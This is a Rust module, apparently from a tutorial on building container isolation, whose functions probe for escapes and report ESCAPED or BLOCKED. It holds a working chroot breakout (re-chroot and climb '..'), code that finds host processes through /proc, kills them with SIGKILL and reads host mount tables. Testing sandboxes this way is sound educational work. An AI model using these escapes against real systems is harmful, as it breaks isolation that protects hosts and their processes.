//! Seeing and touching the host: its files (out of a chroot), its processes, its
//! mounts. Chapters 1–3 build the walls these climb (`man 2 chroot`,
//! `man 7 pid_namespaces`, `man 7 mount_namespaces`).

use std::fs;
use std::path::Path;

use nix::mount::{MsFlags, mount};
use nix::sys::signal::{Signal, kill};
use nix::unistd::{Pid, chdir, chroot};

use super::ensure_proc;

/// The classic: a root process may call chroot(2) again. Doing so into a
/// subdirectory leaves the working directory *outside* the new root, and from
/// there `..` climbs without limit to the real root. There it creates a file
/// that the host then looks for.
pub fn chroot_breakout(host_file: &Path) -> String {
    if fs::write(host_file, "escaped\n").is_ok() {
        return format!("ESCAPED: no wall to climb, created {}", host_file.display());
    }
    if let Err(e) = break_out_of_chroot() {
        return format!("BLOCKED: chroot failed: {e}");
    }
    match fs::write(host_file, "escaped\n") {
        Ok(()) => format!("ESCAPED: broke out of chroot, created {}", host_file.display()),
        Err(_) => {
            "BLOCKED: climbed to the top of this root; the host's directory is not up there".into()
        }
    }
}

/// chroot(2) into a subdirectory, climb `..` from the working directory left
/// outside it, and make the top the root: the real root, unless a mount
/// namespace's `pivot_root` put the top somewhere else.
pub fn break_out_of_chroot() -> nix::Result<()> {
    let _ = fs::create_dir("/.breakout");
    chroot("/.breakout")?;
    for _ in 0..256 {
        chdir("..")?;
    }
    chroot(".")
}

/// Look for a host process through `/proc`, mounting it first if the runtime did
/// not: a root process inside a chroot is allowed to. (We match `argv[0]` exactly:
/// our own command line, and the runtime's, hold NAME as an argument.)
pub fn see_host_processes(name: &str) -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let pids = crate::report::pids();
    for pid in &pids {
        let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        if cmdline.split(|b| *b == 0).next() == Some(name.as_bytes()) {
            return format!("ESCAPED: saw the host's {name} as pid {pid}");
        }
    }
    format!("BLOCKED: {} processes visible, none of them the host's", pids.len())
}

pub fn kill_host_process(pid: Pid) -> String {
    match kill(pid, Signal::SIGKILL) {
        Ok(()) => format!("ESCAPED: sent SIGKILL to pid {pid}"),
        Err(e) => format!("BLOCKED: kill {pid}: {e}"),
    }
}

/// Read the mount table of every process in sight. A chroot hides the mounts
/// outside it from *our* `/proc/self/mountinfo`, but a host process's table is
/// shown from that process's root: without a PID namespace, the host's.
pub fn read_host_mounts(marker: &str) -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let pids = crate::report::pids();
    for pid in &pids {
        let table = format!("/proc/{pid}/mountinfo");
        let content = fs::read_to_string(&table).unwrap_or_default();
        if let Some(line) = content.lines().find(|l| l.contains(marker)) {
            let mount_point = line.split(' ').nth(4).unwrap_or("?");
            return format!("ESCAPED: {table} lists the host's {marker} at {mount_point}");
        }
    }
    format!("BLOCKED: read the mount tables of {} processes, no host mount in them", pids.len())
}

/// Mount something. Whether the host can see it is for the host to check.
pub fn leak_mount(marker: &str) -> String {
    let _ = fs::create_dir("mnt");
    match mount(Some(marker), "mnt", Some("tmpfs"), MsFlags::empty(), None::<&str>) {
        Ok(()) => format!("MOUNTED: tmpfs {marker} on ./mnt"),
        Err(e) => format!("BLOCKED: mount: {e}"),
    }
}
